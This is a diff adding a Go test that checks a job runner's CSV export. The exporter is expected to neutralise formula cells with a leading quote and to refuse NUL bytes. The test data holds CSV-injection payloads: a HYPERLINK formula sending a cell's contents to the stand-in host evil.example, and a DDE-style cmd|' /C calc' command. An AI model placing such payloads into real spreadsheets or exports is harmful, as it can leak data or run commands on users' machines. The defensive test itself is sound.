@@ -1607,3 +1607,50 @@ func TestReliabilityHealthzStateFull(t *testing.T) {
 	run := p.wait(t)
 	relWantRun(t, run, 0, `msg="cannot store the run's log" job=chatty`)
 }
+
+// TestReliabilityCSVInjection: an export whose cells come from WeCom (a
+// member named like a formula) is written so that a spreadsheet shows the
+// text instead of running it, and a NUL byte is refused naming its row and
+// column, with nothing written.
+func TestReliabilityCSVInjection(t *testing.T) {
+	t.Parallel()
+	r := newRelRig(t)
+	r.write(t, "jobs.yaml", []byte("timezone: UTC\n"+relClients+`jobs:
+  - {name: export, schedule: "@daily", script: export.lua, client: contacts}
+`))
+	r.script(t, "export.lua", `
+		local csv = require("csv")
+		local rows = {
+			{userid = "zhangsan", name = "=HYPERLINK(\"http://evil.example/?\"&A1,\"open\")", note = "@SUM(1+1)*cmd|' /C calc'!A0"},
+			{userid = "lisi", name = "+1+1", note = "-2+3"},
+			{userid = "wangwu", name = "\tx", note = "-5"},
+		}
+		csv.write("export.csv", rows, {header = {"userid", "name", "note"}, bom = true})
+		csv.write("raw.csv", rows, {header = {"userid", "name", "note"}, raw = true})
+		print("written")
+		csv.write("nul.csv", {{userid = "a", name = "b"}, {userid = "c", name = "x\0y"}}, {header = {"userid", "name"}})
+	`)
+	run := r.run(t, "jobs", "run", "export")
+	relWantRun(t, run, 1, `csv.write: rows[2]: name: a NUL byte cannot be written in a CSV cell`)
+	if !strings.HasPrefix(run.stdout, "written\n") {
+		t.Errorf("stdout = %q", run.stdout)
+	}
+	data := filepath.Join(r.dir, "data")
+	export, err := os.ReadFile(filepath.Join(data, "export.csv"))
+	if err != nil {
+		t.Fatal(err)
+	}
+	want := "\xEF\xBB\xBFuserid,name,note\n" +
+		`zhangsan,"'=HYPERLINK(""http://evil.example/?""&A1,""open"")",'@SUM(1+1)*cmd|' /C calc'!A0` + "\n" +
+		"lisi,'+1+1,'-2+3\n" +
+		"wangwu,'\tx,-5\n"
+	if string(export) != want {
+		t.Errorf("export.csv =\n%q\nwant\n%q", export, want)
+	}
+	if raw, _ := os.ReadFile(filepath.Join(data, "raw.csv")); !strings.Contains(string(raw), "lisi,+1+1,-2+3\n") {
+		t.Errorf("raw.csv changed the cells:\n%s", raw)
+	}
+	if _, err := os.Stat(filepath.Join(data, "nul.csv")); err == nil {
+		t.Error("a file with a NUL byte was written")
+	}
+}
